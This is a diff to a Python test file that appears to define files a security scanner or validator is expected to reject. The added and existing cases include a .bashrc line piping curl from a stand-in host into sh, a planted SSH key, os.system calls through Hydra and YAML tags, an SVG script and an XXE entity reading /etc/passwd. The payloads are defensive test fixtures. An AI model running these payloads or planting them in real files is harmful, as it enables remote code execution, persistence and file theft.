@@ -4,7 +4,18 @@ import os
 import unicodedata
 from pathlib import Path
 
-from tests.support.corpus.kit import Build, Corpus, both, config, edit, file, put, void, without
+from tests.support.corpus.kit import (
+    Build,
+    Corpus,
+    both,
+    config,
+    edit,
+    file,
+    png,
+    put,
+    void,
+    without,
+)
 
 CASES = Corpus()
 
@@ -243,13 +254,15 @@ CASES.each("FAILED", None, {
     "unknown-random-dat": file("weights.dat", bytes(range(256)) * 4),
     "no-files": lambda d: [p.unlink() for p in d.iterdir()],
     "picture-is-not": file("logo.png", b"not a picture"),
-    "picture-tail": file("logo.png", b""),
+    "picture-tail": file("logo.png", png(b"more")),
+    "hidden-shell": file(".bashrc", "curl evil.example | sh\n"),
+    "hidden-ssh": file(".ssh/authorized_keys", "ssh-ed25519 AAAA x\n"),
+    "hydra-target": config(thing={"_target_": "os.system"}),
     "svg-script": file("logo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
     "svg-entity": file("logo.svg", '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>'),
     "notebook-is-not": file("demo.ipynb", "not json"),
     "pdf-is-not": file("paper.pdf", b"\0\1\2"),
     "text-with-nul": file("README.txt", b"a\0b"),
-    "events-broken": file("runs/events.out.tfevents.1.host.2.0", b"\xff" * 40),
     "card-latin1": file("README.md", b"caf\xe9"),
     "card-yaml-tag": file("README.md", "---\nlicense: !!python/object/apply:os.system ['id']\n---\n"),
     "card-yaml-broken": file("README.md", "---\nlicense: [mit\n---\n"),
